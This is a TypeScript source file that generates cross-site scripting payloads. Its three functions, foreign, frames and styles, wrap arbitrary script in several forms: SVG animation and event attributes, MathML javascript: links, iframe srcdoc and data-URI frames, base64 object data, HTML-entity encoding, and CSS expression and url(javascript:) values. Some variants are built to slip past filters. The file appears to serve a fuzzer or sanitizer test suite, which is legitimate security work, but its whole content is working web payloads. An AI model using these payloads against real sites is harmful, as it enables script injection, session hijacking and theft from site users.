import { entities, type Writer } from './payload-writer.ts'

export function foreign(): Writer[] {
  const names = ['href', 'xlink:href', 'onload', 'from', 'begin']
  const animations = ['animate', 'set', 'animateTransform', 'animateMotion', 'discard']
  const animated = animations.flatMap((tag) =>
    names.flatMap((name): Writer[] => [
      (code) =>
        `<svg><a><${tag} attributeName=${name} values=javascript:${code} to=javascript:${code} /><text x=9 y=9>x</text></a></svg>`,
      (code) => `<svg><${tag} onbegin=${code} attributeName=${name} dur=1s></svg>`,
      (code) => `<svg><${tag} onend=${code} dur=1ms></svg>`,
    ]),
  )
  const others: Writer[] = [
    (code) => `<svg/onload=${code}>`,
    (code) => `<svg><svg/onload=${code}>`,
    (code) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${code}'/></svg>#x">`,
    (code) => `<svg><foreignObject><iframe srcdoc="<script>${code}</script>">`,
    (code) => `<svg><image href=x onerror=${code}>`,
    (code) => `<svg><handler type="text/javascript" ev:event=load>${code}</handler></svg>`,
    (code) => `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${code}</x:script></svg>`,
    (code) => `<math><maction actiontype=statusline#http://x xlink:href=javascript:${code}>press</maction></math>`,
    (code) => `<math><mi xlink:href=javascript:${code}>press</mi></math>`,
    (code) => `<math href=javascript:${code}>press</math>`,
    (code) => `<svg><a href=javascript:${code}><rect width=99 height=99 /></a></svg>`,
    (code) => `<?xml-stylesheet href="javascript:${code}"?><svg/>`,
  ]
  return [...animated, ...others]
}

export function frames(): Writer[] {
  const inner: Writer[] = [
    (code) => `<script>${code}</script>`,
    (code) => `<img src=x onerror=${code}>`,
    (code) => `<svg onload=${code}>`,
    (code) => `<body onload=${code}>`,
  ]
  return inner.flatMap((write): Writer[] => [
    (code) => `<iframe srcdoc="${write(code)}"></iframe>`,
    (code) => `<iframe srcdoc='${entities((point) => `&#${point};`)(write(code))}'></iframe>`,
    (code) => `<iframe src="data:text/html,${write(code)}"></iframe>`,
    (code) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${write(code)}"></iframe>`,
    (code) => `<object data="data:text/html,${write(code)}"></object>`,
    (code) => `<object type="text/html" data='data:text/html;base64,${btoa(write(code))}'></object>`,
    (code) => `<embed src="data:text/html,${write(code)}">`,
    (code) => `<frameset><frame src="data:text/html,${write(code)}"></frameset>`,
    (code) =>
      `<iframe src="about:blank" onload="contentDocument.write('${write(code).replaceAll("'", '')}')"></iframe>`,
  ])
}

export function styles(): Writer[] {
  const values: Writer[] = [
    (code) => `width:expression(${code})`,
    (code) => `width:e/**/xpression(${code})`,
    (code) => `behavior:url(javascript:${code})`,
    (code) => `-moz-binding:url(data:text/xml,${code})`,
    (code) => `background:url(javascript:${code})`,
    (code) => `background:url("javascript:${code}")`,
    (code) => `background:u\\72l(javascript:${code})`,
    (code) => `list-style-image:url(javascript:${code})`,
    (code) => `content:url(data:image/svg+xml,<svg onload=${code}>)`,
  ]
  return values.flatMap((value): Writer[] => [
    (code) => `<div style="${value(code).replaceAll('"', "'")}">x</div>`,
    (code) => `<style>body{${value(code)}}</style>`,
    (code) => `<style>@import "javascript:${code}";</style><style>*{${value(code)}}</style>`,
    (code) => `<style><!--</style><div style='${value(code)}'></style><img src=x onerror=${code}>`,
    (code) => `<style>a{}</style/x><img src=x onerror=${code}>{${value(code)}}`,
    (code) => `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${code}>x</b>`,
    (code) => `<link rel=stylesheet href="data:text/css,*{${value(code).replaceAll('"', "'")}}">`,
  ])
}
